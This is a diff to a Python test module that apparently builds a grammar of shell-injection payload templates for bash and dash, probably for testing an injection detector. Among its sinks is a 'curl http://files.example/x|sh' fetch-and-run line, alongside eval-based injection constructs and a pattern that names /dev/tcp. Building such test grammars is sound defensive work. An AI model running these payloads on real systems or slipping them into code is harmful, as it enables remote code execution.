@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import re
 import shlex
 
 from tests.oracle_payload.grammar import COMMAND, Grammar, Sink
@@ -27,7 +28,7 @@ _STARTS = (
 )
 
 SINKS = [
-    *(Sink("spawn", COMMAND, f"{start} «A»", start) for start in _STARTS if "busybox" not in start),
+    *(Sink("spawn", COMMAND, f"{start} «A»", start) for start in _STARTS),
     Sink("spawn", COMMAND, COMMAND),
     Sink("spawn", COMMAND, "{ curl http://files.example/x|sh;}"),
     Sink("eval", _CODE, "eval «A»", "eval"),
@@ -271,4 +272,22 @@ $(echo eval) «T»
 "$(printf eval)" «T»
 """.strip().split("\n")]  # fmt: skip
 
-GRAMMAR = Grammar("shell", ("bash", "-c"), quote, SINKS, CONSTRUCTS, ENCODINGS)
+_BASH = re.compile(
+    r"\[\[|\(\(|<<<|[<>]\(|\bfunction |coproc|mapfile|readarray|compgen|complete|builtin|declare|typeset|select|printf -v"
+    r"|@P|\$'|=\(|\$\{!|\$\{x[:/]|\blet\b|shopt|PROMPT_COMMAND|source|hash -p|exec -|DEBUG|ERR|RETURN|test -v|/dev/tcp|\{eval"
+)
+"""What only bash knows."""
+POSIX = [way for way in CONSTRUCTS if not _BASH.search(way)]
+
+GRAMMARS = (
+    Grammar("shell", ("bash", "-c"), quote, SINKS, CONSTRUCTS, ENCODINGS),
+    Grammar(
+        "dash",
+        ("dash", "-c"),
+        quote,
+        [sink for sink in SINKS if not sink.call.startswith(("builtin", "exec 3"))],
+        POSIX,
+        {name: way for name, way in ENCODINGS.items() if name not in ("here", "escapes", "octal")},
+        language="shell",
+    ),
+)
